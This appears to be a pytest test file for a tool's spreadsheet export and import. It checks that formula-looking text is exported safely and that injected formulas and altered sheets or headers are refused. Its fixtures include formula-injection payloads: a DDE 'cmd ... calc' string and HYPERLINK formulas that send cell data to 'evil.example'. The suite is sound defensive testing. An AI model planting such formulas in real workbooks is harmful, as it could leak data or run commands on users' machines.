"""The workbook as a trust boundary: text that looks like a formula is exported as text, and
``opsbook import-xlsx`` refuses formulas and any change to the workbook's sheets or headers,
located as ``workbook!sheet!cell``, writing nothing. Real openpyxl, through the CLI."""

from __future__ import annotations

import datetime as dt
import shutil
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import openpyxl
import pytest
from openpyxl.workbook.workbook import Workbook

from conftest import ROOT, SCENARIOS
from opsbook.edit.xlsx.read import unescaped

Run = Callable[..., CompletedProcess[str]]
FIRST = "ecommerce-new-user-first-order"
EN_SHEETS = "T1 needs, T2 actions, T3 monitoring, T4 review, anomalies, about"
T2_HEADER = (
    "Scenario id, Action id, Scenario, Strategy, Action, Owner, Start, Due, Repeats, Standard, "
    "Status, Effective status (computed), Overdue (computed)"
)
FORMULA_HINT = (
    "opsbook imports only values typed in: type the value itself (text that starts with "
    "= + - @ is typed after an apostrophe: '=…)"
)
# Scenario texts beginning with each character OWASP names, as YAML and as the text itself.
DANGEROUS = {
    "strategy: 新人补贴引导": ('"=HYPERLINK(\\"http://x?d=\\"&A1,\\"c\\")"',
                         '=HYPERLINK("http://x?d="&A1,"c")'),
    "action: 设计“首单立减20元+包邮”券包": ('"+1+1"', "+1+1"),
    "standard: 06-10前完成券包审核并上线": ('"-2+3"', "-2+3"),
    "strategy: 简化下单流程": ('"@SUM(A1)"', "@SUM(A1)"),
    "action: 下单必填项精简至3项": ('"\\tcmd|\' /C calc\'!A0"', "\tcmd|' /C calc'!A0"),
    "standard: 06-12前上线并通过测试，必填项 ≤ 3": ('"\\rcmd"', "\rcmd"),
    "attainment: 首单转化率18%（目标20%），达成率90%": ('"=SUM(A1)"', "=SUM(A1)"),
}  # fmt: skip


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The shipped scenarios and mkdocs.yml (as-of 2026-06-22) in a folder of their own."""
    root = tmp_path / "project"
    shutil.copytree(SCENARIOS, root / "scenarios")
    shutil.copy(ROOT / "mkdocs.yml", root)
    return root


def scenario_bytes(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "scenarios").rglob("*")) if p.is_file()}


def export(run: Run, root: Path, lang: str = "en") -> Path:
    result = run("export", "--format", "xlsx", "-o", "review.xlsx", "--lang", lang, cwd=root)
    assert result.returncode == 0, result.stdout + result.stderr
    return root / "review.xlsx"


def edit(path: Path, change: Callable[[Workbook], None]) -> None:
    workbook = openpyxl.load_workbook(path)
    change(workbook)
    workbook.save(path)


def row_of(path: Path, sheet: str, *ids: str) -> int:
    ws = openpyxl.load_workbook(path)[sheet]
    return next(
        r[0].row for r in ws.iter_rows(min_row=2) if tuple(c.value for c in r[: len(ids)]) == ids
    )


def refused(run: Run, root: Path, *args: str) -> str:
    """Run the import, which must fail and leave every scenario file as it was."""
    before = scenario_bytes(root)
    # English unless a test asks otherwise: the project itself says zh-CN
    result = run("import-xlsx", "review.xlsx", *(args or ("--lang", "en")), cwd=root)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert scenario_bytes(root) == before
    return result.stdout


# Export.


def test_export_writes_formula_looking_text_as_text(run_opsbook: Run, project: Path) -> None:
    scenario = project / "scenarios" / f"{FIRST}.yaml"
    text = scenario.read_text(encoding="utf-8")
    for line, (quoted, _value) in DANGEROUS.items():
        assert line in text
        text = text.replace(line, line.split(":")[0] + ": " + quoted, 1)
    scenario.write_text(text, encoding="utf-8")
    assert run_opsbook("check", "scenarios", cwd=project).returncode == 0
    path = export(run_opsbook, project)
    workbook = openpyxl.load_workbook(path)
    cells = {unescaped(c.value): c for ws in workbook for row in ws.iter_rows() for c in row}
    for _quoted, value in DANGEROUS.values():
        cell = cells[value]  # a carriage return kept as _x000D_ (see unescaped)
        assert (cell.data_type, cell.quotePrefix) == ("s", True), value
    plain = cells["短信触达"]
    assert (plain.data_type, plain.quotePrefix) == ("s", False)
    monitoring = workbook["T3 monitoring"]
    assert monitoring["F2"].data_type == "n" and isinstance(monitoring["F2"].value, float | int)
    assert monitoring["G2"].is_date and isinstance(monitoring["G2"].value, dt.datetime)
    before = scenario_bytes(project)
    result = run_opsbook("import-xlsx", "review.xlsx", "--lang", "en", cwd=project)
    assert (result.returncode, result.stdout) == (0, "no file changed\n")
    assert scenario_bytes(project) == before


def test_text_typed_after_an_apostrophe_is_imported_as_typed(
    run_opsbook: Run, project: Path
) -> None:
    path = export(run_opsbook, project)
    m = row_of(path, "T3 monitoring", FIRST, "first-order-cr")

    def typed(workbook: Workbook) -> None:
        ws = workbook["T3 monitoring"]
        ws[f"G{m}"], ws[f"H{m}"] = dt.datetime(2026, 6, 21), 19.2
        ws[f"I{m}"] = "=SUM(A1)"
        ws[f"I{m}"].data_type = "s"  # what Excel stores for '=SUM(A1)
        ws[f"I{m}"].quotePrefix = True

    edit(path, typed)
    result = run_opsbook("import-xlsx", "review.xlsx", "--lang", "en", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith(f"{FIRST}/first-order-cr: 2026-06-21 = 19.2 (=SUM(A1))\n")
    text = (project / "scenarios" / f"{FIRST}.yaml").read_text(encoding="utf-8")
    assert "      - {date: 2026-06-21, value: 19.2, cause: =SUM(A1)}\n" in text
    assert run_opsbook("check", "scenarios", cwd=project).returncode == 0
    export(run_opsbook, project)
    cell = openpyxl.load_workbook(path)["T3 monitoring"][f"I{m}"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=SUM(A1)", "s", True)


# Import: formulas.


def test_import_refuses_a_formula_in_a_text_cell(run_opsbook: Run, project: Path) -> None:
    path = export(run_opsbook, project)
    m = row_of(path, "T3 monitoring", FIRST, "first-order-cr")
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
    edit(path, lambda wb: wb["T3 monitoring"].__setitem__(f"I{m}", formula))
    assert refused(run_opsbook, project) == (
        f"review.xlsx!T3 monitoring!I{m}: error: this cell holds a formula "
        f'(=HYPERLINK("http://evil.example/?d="&A1,"details")); {FORMULA_HINT}\n'
        "1 error(s): nothing written\n"
    )


def test_import_refuses_a_formula_in_a_number_cell(run_opsbook: Run, project: Path) -> None:
    path = export(run_opsbook, project)
    m = row_of(path, "T3 monitoring", FIRST, "first-order-cr")

    def change(workbook: Workbook) -> None:
        workbook["T3 monitoring"][f"G{m}"] = dt.datetime(2026, 6, 27)
        workbook["T3 monitoring"][f"H{m}"] = "=1+1"

    edit(path, change)
    assert refused(run_opsbook, project) == (
        f"review.xlsx!T3 monitoring!H{m}: error: this cell holds a formula (=1+1); "
        f"{FORMULA_HINT}\n1 error(s): nothing written\n"
    )


def test_import_refuses_a_formula_in_chinese(run_opsbook: Run, project: Path) -> None:
    path = export(run_opsbook, project, "zh-CN")
    a = row_of(path, "T2 运营流程", FIRST, "simple-checkout")
    edit(path, lambda wb: wb["T2 运营流程"].__setitem__(f"K{a}", '=IF(TRUE,"已完成")'))
    assert refused(run_opsbook, project, "--lang", "zh-CN") == (
        f'review.xlsx!T2 运营流程!K{a}: 错误: 此单元格包含公式（=IF(TRUE,"已完成")）；'
        "opsbook 只导入直接输入的值：请直接填写值（以 = + - @ 开头的文本请在前面加单引号：'=…）\n"
        "1 个错误：未写入任何文件\n"
    )


# Import: sheets and headers as exported.


def _rename_sheet(workbook: Workbook) -> None:
    workbook["T2 actions"].title = "actions"


def _delete_sheet(workbook: Workbook) -> None:
    del workbook["anomalies"]


def _add_sheet(workbook: Workbook) -> None:
    workbook.create_sheet("notes")


def _move_sheet(workbook: Workbook) -> None:
    workbook.move_sheet("T4 review", offset=-1)


def _rename_header(workbook: Workbook) -> None:
    workbook["T2 actions"]["K1"] = "State"


def _delete_header(workbook: Workbook) -> None:
    workbook["T2 actions"].delete_cols(11)


def _add_header(workbook: Workbook) -> None:
    workbook["T2 actions"]["N1"] = "Notes"


def _swap_headers(workbook: Workbook) -> None:
    ws = workbook["T2 actions"]
    ws["D1"], ws["E1"] = ws["E1"].value, ws["D1"].value


def _value_right_of_the_table(workbook: Workbook) -> None:
    workbook["T2 actions"]["N5"] = "see mail"


SHAPES = {
    "renamed sheet": (_rename_sheet, "review.xlsx!actions: error: sheet 'actions' stands where "
                      "sheet 'T2 actions' was exported; rename it back to 'T2 actions' (sheets "
                      "are read by their names)"),
    "missing sheet": (_delete_sheet, "review.xlsx: error: the workbook has no sheet 'anomalies'; "
                      f"restore it or export a new workbook (sheets: {EN_SHEETS})"),
    "extra sheet": (_add_sheet, "review.xlsx!notes: error: sheet 'notes' is not one opsbook "
                    f"exported; remove it (sheets: {EN_SHEETS})"),
    "reordered sheets": (_move_sheet, "review.xlsx!T4 review: error: sheet 'T4 review' is out of "
                         "place: sheet 3 must be 'T3 monitoring'; keep the exported order "
                         f"({EN_SHEETS})"),
    "renamed header": (_rename_header, "review.xlsx!T2 actions!K1: error: the header reads 'State' "
                       "where column 'Status' was exported; rename it back"),
    "missing header": (_delete_header, "review.xlsx!T2 actions!K1: error: the header has no "
                       "column 'Status' (column 11 when exported); restore it"),
    "extra header": (_add_header, "review.xlsx!T2 actions!N1: error: column 'Notes' is not one "
                     "opsbook exported; remove it"),
    "reordered headers": (_swap_headers, "review.xlsx!T2 actions!D1: error: column 'Action' is out "
                          "of place: column 4 must be 'Strategy'; keep the exported order "
                          f"({T2_HEADER})"),
    "value outside the table": (_value_right_of_the_table, "review.xlsx!T2 actions!N5: error: "
                                "this cell is outside the table (no column header above it) and "
                                "would not be imported; clear it"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(SHAPES))
def test_import_refuses_a_changed_workbook(run_opsbook: Run, project: Path, case: str) -> None:
    change, message = SHAPES[case]
    path = export(run_opsbook, project)
    a = row_of(path, "T2 actions", FIRST, "simple-checkout")
    # An edit the import would make: it must not be written either.
    edit(path, lambda wb: wb["T2 actions"].__setitem__(f"K{a}", "Done"))
    edit(path, change)
    output = refused(run_opsbook, project)
    assert output == f"{message}\n1 error(s): nothing written\n"


def test_import_summarises_ten_thousand_bad_rows(run_opsbook: Run, project: Path) -> None:
    path = export(run_opsbook, project)

    def paste(workbook: Workbook) -> None:
        ws = workbook["T2 actions"]
        for number in range(10_000):
            ws.append(["pasted", f"row-{number}"] + [None] * 8 + ["maybe"])

    edit(path, paste)
    first = openpyxl.load_workbook(path, read_only=True)["T2 actions"].max_row - 10_000 + 1
    rows = range(first, first + 5)
    choices = "Not started, In progress, Done, Delayed"
    expected = "".join(
        f"review.xlsx!T2 actions!A{n}: error: there is no scenario 'pasted'\n"
        f"review.xlsx!T2 actions!K{n}: error: 'maybe' is not one of {choices}\n"
        for n in rows
    )
    expected += (
        f"… and 9,995 more of the same kind as review.xlsx!T2 actions!A{first} in sheet T2 actions\n"
        f"… and 9,995 more of the same kind as review.xlsx!T2 actions!K{first} in sheet T2 actions\n"
        "20000 error(s): nothing written\n"
    )
    assert refused(run_opsbook, project) == expected


def test_text_the_workbook_xml_must_escape_comes_back_unchanged(
    run_opsbook: Run, project: Path
) -> None:
    """A review's text with a carriage return, a control character and what looks like
    an escape (``_x0041_``): exported, read back by ``import-xlsx``, nothing changed."""
    scenario = project / "scenarios" / f"{FIRST}.yaml"
    line = "attainment: 首单转化率18%（目标20%），达成率90%"
    text = scenario.read_text(encoding="utf-8")
    assert line in text
    typed = '"第一行\\r第二行 _x0041_ \\x01 末尾"'
    scenario.write_text(text.replace(line, f"attainment: {typed}", 1), encoding="utf-8")
    assert run_opsbook("check", "scenarios", cwd=project).returncode == 0
    path = export(run_opsbook, project)
    values = [unescaped(c.value) for row in openpyxl.load_workbook(path)["T4 review"].iter_rows()
              for c in row]  # fmt: skip
    assert "第一行\r第二行 _x0041_ \x01 末尾" in values
    before = scenario_bytes(project)
    result = run_opsbook("import-xlsx", "review.xlsx", "--lang", "en", cwd=project)
    assert (result.returncode, result.stdout) == (0, "no file changed\n")
    assert scenario_bytes(project) == before


def test_escapes_are_undone_and_nothing_else() -> None:
    assert unescaped("a_x000D_b_x005F_x0041_ _x00e9_") == "a\rb_x0041_ é"
    assert unescaped("_x12_ x0041 _X0041_") == "_x12_ x0041 _X0041_"
    assert unescaped(3.5) == 3.5 and unescaped(None) is None
